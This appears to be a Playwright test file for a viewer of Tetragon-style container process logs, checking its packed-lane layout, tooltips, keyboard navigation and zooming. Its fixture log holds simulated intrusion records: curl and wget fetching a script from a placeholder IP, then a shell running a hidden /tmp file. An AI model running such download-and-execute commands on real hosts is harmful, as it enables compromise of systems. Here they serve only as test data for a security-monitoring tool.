import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'
import { boxOf, type Viewer } from './helpers/viewer'

const HEADER = 10
/** Middle of a lane of the first pod, from the top of the canvas. */
const lane = (idx: number): number => 20 + 13 * idx + 6

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..100s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 10s..20s exit 22
      12 /bin/sh /tmp/.x 40s..60s
        13 /usr/bin/id 45s..45.01s
  pod default/ywing container 2fb931d2 node n1
    20 /bin/bash 0s..100s
      21 /usr/bin/wget http://198.51.100.7/s.sh 10s..20s
`)

/** Moves the pointer to a second of the log at a height of the canvas. */
async function point(viewer: Viewer, second: number, y: number): Promise<{ x: number; y: number }> {
  const { from, to } = await viewer.visibleRange()
  const box = await boxOf(viewer.canvas)
  const at = Date.parse('2024-05-01T10:00:00Z') + second * 1000
  const place = { x: box.x + (box.width * (at - from)) / (to - from), y: box.y + y }
  await viewer.page.mouse.move(place.x, place.y)
  return place
}

test.describe('packed lanes', () => {
  withLog(log.text)
  test.beforeEach(async ({ viewer }) => {
    await viewer.page.keyboard.press('v')
    await expect(viewer.lanes).toBeVisible()
    await viewer.waitForIdle()
  })

  test('v and the buttons switch the layout, and the link carries it', async ({ viewer, page }) => {
    await expect(viewer.tree).toHaveCount(0)
    await expect(viewer.button('packed')).toHaveAttribute('aria-pressed', 'true')
    await expect.poll(() => page.url()).toContain('layout=packed')
    await viewer.button('tree').click()
    await expect(viewer.row('/usr/bin/curl')).toBeVisible()
    await expect(viewer.lanes).toHaveCount(0)
    await expect.poll(() => page.url()).not.toContain('layout=')
    await viewer.button('packed').click()
    await expect(viewer.lanes).toBeVisible()
    await page.keyboard.press('v')
    await expect(viewer.tree).toBeVisible()
  })

  test('the process that an arrow key comes to is said', async ({ viewer, page }) => {
    await viewer.lanes.focus()
    const said = page.getByRole('status', { name: 'Selected process' })
    await page.keyboard.press('ArrowDown')
    await expect(said).toHaveText('/bin/bash, default/xwing, exit 0')
    await page.keyboard.press('ArrowDown')
    await expect(said).toHaveText('/usr/bin/curl, default/xwing, exit 22')
  })

  test('a span says what it is under the pointer, and a click selects its process', async ({ viewer, page }) => {
    const wide = await point(viewer, 15, lane(1))
    const tip = page.locator('.tooltip')
    await expect(tip).toContainText('/usr/bin/curl')
    await expect(tip).toContainText('exit 22 after 10 s')
    await expect(tip).toContainText('default/xwing')
    await page.mouse.click(wide.x, wide.y)
    await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/curl')
    const narrow = await point(viewer, 45, lane(2))
    await expect(tip).toContainText('/usr/bin/id')
    await page.mouse.click(narrow.x, narrow.y)
    await expect(viewer.details.getByRole('heading', { level: 2 })).toHaveText('/usr/bin/id')
    await page.mouse.move(5, 5)
    await expect(tip).toHaveCount(0)
  })

  test('a double click fits a process and what it started; dragging pans', async ({ viewer, page }) => {
    const { x, y } = await point(viewer, 50, lane(1))
    const { after } = await viewer.changeRange(() => page.mouse.dblclick(x, y))
    expect(after.to - after.from).toBeLessThan(30_000)
    const dragged = await viewer.changeRange(async () => {
      await page.mouse.down()
      await page.mouse.move(x - 100, y, { steps: 4 })
      await page.mouse.up()
    })
    expect(dragged.after.from).toBeGreaterThan(dragged.before.from)
    expect(Math.abs(dragged.after.to - dragged.after.from - (after.to - after.from))).toBeLessThanOrEqual(1)
  })

  test('a double click on a header, and one click on its triangle, close and open a pod', async ({ viewer, page }) => {
    const tip = page.locator('.tooltip')
    const header = await point(viewer, 50, HEADER)
    await expect(tip).toContainText('4 processes')
    await page.mouse.dblclick(header.x, header.y)
    await expect.poll(() => page.url()).toContain('closed=pod')
    await viewer.waitForIdle()
    // the next header is where the second lane was
    await point(viewer, 50, lane(1) + 7)
    await expect(tip).toContainText('default/ywing')
    await expect(tip).toContainText('2 processes')
    const box = await boxOf(viewer.canvas)
    await page.mouse.click(box.x + 12, box.y + HEADER)
    await expect.poll(() => page.url()).not.toContain('closed=')
    await viewer.waitForIdle()
    await point(viewer, 50, lane(1))
    await expect(tip).toContainText('/bin/sh')
  })

  test('a filter leaves pods without a match out', async ({ viewer, page }) => {
    await viewer.filter.fill('wget')
    await expect(viewer.status).toContainText('matching 1 of 6')
    await viewer.waitForIdle()
    await point(viewer, 50, HEADER)
    await expect(page.locator('.tooltip')).toContainText('default/ywing')
    await point(viewer, 15, lane(1))
    await expect(page.locator('.tooltip')).toContainText('/usr/bin/wget')
  })

  test('arrow keys walk the lanes, Enter closes and opens the pod', async ({ viewer, page }) => {
    const heading = viewer.details.getByRole('heading', { level: 2 })
    await viewer.tabTo(viewer.lanes)
    await page.keyboard.press('ArrowDown')
    await expect(heading).toHaveText('/bin/bash')
    await page.keyboard.press('ArrowDown')
    await expect(heading).toHaveText('/usr/bin/curl')
    await page.keyboard.press('ArrowRight')
    await expect(heading).toHaveText('/bin/sh')
    await page.keyboard.press('ArrowDown')
    await expect(heading).toHaveText('/usr/bin/id')
    await page.keyboard.press('ArrowUp')
    await expect(heading).toHaveText('/bin/sh')
    await viewer.waitForIdle()
    await page.keyboard.press('Enter')
    await expect.poll(() => page.url()).toContain('closed=pod')
    await viewer.waitForIdle()
    await page.keyboard.press('Enter')
    await expect.poll(() => page.url()).not.toContain('closed=')
  })

  test('m marks the time under the pointer, shift and drag select a range', async ({ viewer, page }) => {
    const length = page.locator('.range-length')
    await point(viewer, 10, lane(0))
    await page.keyboard.press('m')
    await point(viewer, 30, lane(0))
    await page.keyboard.press('m')
    await expect(length).toHaveText(/^(19\.9|20\.)/)
    await page.keyboard.press('Escape') // or an edge of the range is dragged
    await page.keyboard.down('Shift')
    await page.mouse.down()
    await point(viewer, 70, lane(1))
    await page.mouse.up()
    await page.keyboard.up('Shift')
    await expect(length).toHaveText(/^(39\.9|40\.)/)
  })

  test('an empty lane has no tooltip, and the time of the cursor leaves the switch free', async ({ viewer, page }) => {
    await point(viewer, 15, lane(1))
    await expect(page.locator('.tooltip')).toBeVisible()
    await point(viewer, 30, lane(1))
    await expect(page.locator('.tooltip')).toHaveCount(0)
    await point(viewer, 1, lane(0))
    const pill = await boxOf(page.locator('.cursor-time'))
    const layouts = await boxOf(page.getByRole('group', { name: 'Layout' }))
    expect(pill.x).toBeGreaterThan(layouts.x + layouts.width)
  })

  test('a link opens the packed layout', async ({ viewer, page, folder }) => {
    await expect.poll(() => page.url()).toContain('layout=packed')
    const { hash } = new URL(page.url())
    await page.goto('about:blank')
    await viewer.goto(hash)
    await viewer.openFiles(await folder.write('tetragon.log', log.text))
    await expect(viewer.lanes).toBeVisible()
  })
})

test('each layout keeps its scroll offset, and the selection is in view after a switch', async ({
  viewer,
  page,
  folder,
}) => {
  const pods = Array.from({ length: 80 }, (_, i) => {
    const name = String(i).padStart(2, '0')
    return `  pod default/p${name} container ${100 + i} node n1\n    ${10 + i} /bin/app-${name} 0s..100s`
  })
  await viewer.goto()
  await viewer.openFiles(await folder.write('tetragon.log', drawLog(pods.join('\n')).text))
  const tip = page.locator('.tooltip')
  await page.keyboard.press('v')
  await viewer.waitForIdle()
  await point(viewer, 50, HEADER)
  await expect(tip).toContainText('default/p00')
  await page.mouse.wheel(0, 36 * 20)
  await viewer.waitForIdle()
  await point(viewer, 51, HEADER)
  await expect(tip).toContainText('default/p20')

  await page.keyboard.press('v')
  await expect(viewer.row('default/p00')).toBeInViewport()
  await page.keyboard.press('v')
  await viewer.waitForIdle()
  await point(viewer, 50, HEADER)
  await expect(tip).toContainText('default/p20')

  await page.keyboard.press('v')
  await viewer.selectRow('/bin/app-03')
  await page.keyboard.press('v')
  await viewer.waitForIdle()
  await point(viewer, 50, 40)
  await expect(tip).toContainText('default/p03')
})
